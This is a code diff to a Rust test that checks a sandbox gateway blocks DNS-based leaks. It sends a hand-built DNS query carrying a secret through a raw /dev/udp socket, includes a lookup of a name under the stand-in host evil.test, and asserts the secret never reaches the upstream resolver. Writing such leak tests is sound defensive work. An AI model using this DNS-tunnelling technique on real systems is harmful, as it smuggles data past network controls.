@@ -96,14 +96,17 @@ pub fn nothing_leaks_around_the_names(env: &Env) {
     let secret = format!("s3cr3t{}", std::process::id());
     let script = format!(
         "getent hosts {secret}.evil.test; getent hosts {secret}.web.test; \
-         exec 3<>/dev/udp/{web}/53; printf '\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x{len:02x}{secret}\\x04test\\x00\\x00\\x01\\x00\\x01' >&3; \
+         printf '\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x{len:02x}{secret}\\x04test\\x00\\x00\\x01\\x00\\x01' > /tmp/q; \
+         exec 3<>/dev/udp/{web}/53; cat /tmp/q >&3; \
          timeout 2 head -c 12 <&3 | od -An -tx1",
         web = crate::testnet::WEB,
         len = secret.len()
     );
     let (_, out) = sh(env, &name, &script);
     // The reply to the raw query came from the gateway: NXDOMAIN (rcode 3).
-    assert!(out.contains("12 34 85 83") || out.contains("12 34 81 83"), "raw DNS query answered: {out:?}");
+    // (The query goes out in one write, by cat: bash's printf may write a
+    // datagram in pieces.)
+    assert!(out.contains("12 34 85 83"), "raw DNS query answered: {out:?}\n{}", log(env, &name));
     assert!(!env.net.dns_queries().contains(&secret), "a denied name reached the upstream resolver");
 
     // SNI or Host other than the dialled name; raw addresses; UDP.
